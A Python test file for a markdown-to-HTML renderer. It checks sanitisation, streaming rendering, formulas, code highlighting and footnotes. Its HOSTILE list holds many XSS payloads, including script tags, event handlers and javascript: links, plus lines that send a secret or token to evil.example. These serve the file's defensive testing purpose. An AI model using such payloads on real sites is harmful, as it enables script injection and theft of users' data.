"""Markdown in which nothing runs and nothing is fetched, whole and while it is written."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import html

from satchel.server.pages.markdown import MarkdownBlocks, markdown
from tests.requirements import requirement

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](/logout)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    '<https://ok.example/"onmouseover="alert(1)>',
    '[x](https://ok.example "t\\" onclick=\\"alert(1)")',
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example>",
    "<form action=https://evil.example><input name=token></form>",
    "<a href=x ping=https://evil.example>x</a>",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~<img/src=x onerror=alert(1)>\n~~~",
    "`<script>`",
    "| <script> |\n|---|\n| <img src=x> |",
    "[a]: javascript:alert(1)\n\n[a]",
    "# <b onclick=x>x</b>",
    "\x00<script>\x00",
    "\ud800<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r'$\class{x" onclick="alert(1)}{y} \style{background:url(https://evil.example)}{z}$',
    "$$\n</math><script>alert(1)</script>\n$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <input name=token>",
]
ALLOWED = {
    "a", "blockquote", "br", "code", "del", "div", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "section", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
    "math", "mi", "mn", "mo", "mrow", "mspace", "mstyle", "mtext",
}  # fmt: skip
ATTRIBUTES = {
    "href",
    "title",
    "rel",
    "target",
    "tabindex",
    "class",
    "start",
    "data-lang",
    "display",
    "mathvariant",
    "stretchy",
    "width",
}


def assert_harmless(text: str) -> None:
    for element in html.fragment_fromstring(text, create_parent="main").iterdescendants():
        assert element.tag in ALLOWED, text
        assert set(element.attrib) <= ATTRIBUTES, text
        href = element.get("href")
        assert href is None or href.lower().startswith(("http://", "https://", "mailto:")), text
        assert re.fullmatch(r"scroll|num|footnotes|c-\w\w?|", element.get("class") or ""), text
        if element.tag == "a":
            assert element.get("rel") == "noopener noreferrer nofollow"


@requirement("web-pages:markdown")
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_markdown_runs_or_is_fetched(text: str) -> None:
    assert_harmless(markdown(text))
    assert_harmless(markdown(f"> - {text}"))


@requirement("web-pages:markdown")
@given(
    st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "*", "`", "<", ">", '"', "&#x6a;"])).map(
        "".join
    )
)
def test_hostile_pieces_in_any_order_stay_harmless(text: str) -> None:
    assert_harmless(markdown(text))


@requirement("web-pages:markdown")
def test_markdown_keeps_its_meaning() -> None:
    text = "# Title\n\nA **bold** ~~old~~ [link](https://ok.example).\n\n```rust\nlet x = 1 < 2;\n```\n\n|a|\n|-|\n|1|\n"
    page = html.fragment_fromstring(markdown(text), create_parent="main")
    assert [element.tag for element in page] == ["h3", "p", "pre", "div"]
    assert page[2].get("data-lang") == "rust"
    assert page[2].text_content() == "let x = 1 < 2;\n"
    assert page.xpath("./p/a/@href") == ["https://ok.example"]
    assert markdown("![a cat](https://ok.example/cat.png)").count("<a ") == 1
    assert markdown("![a cat](data:image/png;base64,AA==)") == "<p>a cat</p>\n"


@requirement("web-pages:markdown")
def test_addresses_are_links_up_to_where_the_sentence_ends() -> None:
    text = (
        "See https://a.example/b_(c), *https://d.example* (https://e.example/f?g=1&h=2). "
        "[https://i.example](https://j.example) `https://k.example` main.py ftp://l.example https://"
    )
    page = html.fragment_fromstring(markdown(text), create_parent="main")
    assert page.xpath(".//a/@href") == [
        "https://a.example/b_(c)",
        "https://d.example",
        "https://e.example/f?g=1&h=2",
        "https://j.example",
    ]
    shown = text.replace("*", "").replace("`", "").replace("[", "").replace("](https://j.example)", "")
    assert page.text_content().strip() == shown


@requirement("web-pages:markdown")
def test_no_heading_is_more_than_one_rank_below_the_one_before_it() -> None:
    page = html.fragment_fromstring(markdown("### A\n\n# B\n\n#### C\n\n## D"), create_parent="main")
    assert [element.tag for element in page] == ["h3", "h3", "h4", "h4"]


@requirement("web-pages:markdown:more")
def test_code_has_colours_and_formulas_are_drawn() -> None:
    page = html.fragment_fromstring(markdown("```python\nx = 'a<b'  # hi\n```\n"), create_parent="main")
    [code] = page.xpath("./pre/code")
    assert code.text_content() == "x = 'a<b'  # hi\n"
    assert [each.text for each in code.xpath(".//span[@class='c-s1']")] == ["'a<b'"]
    for text in (r"So \(e^{x}\) holds.", "So $e^{x}$ holds, for $5 and $6."):
        assert "<msup><mi>e</mi>" in markdown(text)
    assert "$5 and $6." in markdown("So $e^{x}$ holds, for $5 and $6.")
    for text in ("$$\n\\frac{a}{b}\n$$\n", "\\[\n\\frac{a}{b}\n\\]\n"):
        assert '<math display="block"><mrow><mfrac>' in markdown(text)
    assert markdown(r"Bad: $\frac{$.") == "<p>Bad: <code>$\\frac{$</code>.</p>\n"
    assert "<math" not in markdown(f"${'x' * 3_000}$")


@requirement("web-pages:markdown:more")
def test_tasks_are_ticked_and_footnotes_stand_at_the_end() -> None:
    assert markdown("- [ ] a\n- [x] b\n- c [x]\n").count("☐") == 1
    assert "<li>☑ b</li>" in markdown("- [ ] a\n- [x] b\n- c [x]\n")
    page = html.fragment_fromstring(markdown("One[^n].\n\n[^n]: The note.\n"), create_parent="main")
    assert page.xpath("string(./p/sup)") == "1"
    assert page.xpath("string(./section/ol/li)").strip() == "The note."


@requirement("web-pages:markdown")
def test_a_text_that_is_too_long_to_parse_is_shown_as_plain_text() -> None:
    shown = markdown("# <b>\n" * 100_000)
    assert shown.startswith('<pre tabindex="0"><code># &lt;b&gt;')
    assert_harmless(shown)


_PIECES = [
    "# a\n", "x", "\n", "\n\n", "- a\n", "  b\n", "```\n", "```", "code\n", "> q\n", "| a | b |\n", "|---|---|\n",
    "| 1 | 2 |\n", "1. x\n", "    ind\n", "---\n", "***", "**b**", "`c`", "text ", "\t", "===\n", "[l](http://x.y)",
    "\x0b", "\u2028", "\x0c", "\r", "\r\n",
]  # fmt: skip


@requirement("web-pages:markdown")
@given(st.lists(st.sampled_from(_PIECES), max_size=25), st.lists(st.integers(1, 6), min_size=1))
@example(["a", "\r", "\n", "\n", "b"], [1])
@example([], [1])
def test_a_text_in_pieces_is_rendered_like_the_whole(pieces: list[str], sizes: list[int]) -> None:
    text, blocks, shown = "".join(pieces), MarkdownBlocks(), list[str]()
    at = turn = 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        changed, count = blocks.feed(text[at : at + size])
        at, turn = at + size, turn + 1
        del shown[count:]
        for place, block in changed:
            shown[place:] = [str(block), *shown[place + 1 :]]
    whole = str(markdown(text))
    assert "".join(shown).replace("\n", "") == whole.replace("\n", "")


@requirement("web-pages:markdown")
def test_settled_blocks_are_not_parsed_again() -> None:
    blocks = MarkdownBlocks()
    blocks.feed("word " * 1000 + "\n\nnext\n\n")
    assert blocks.open_chars < 10
    changed, count = blocks.feed("more")
    assert [place for place, _ in changed] == [1, 2]
    assert count == 3
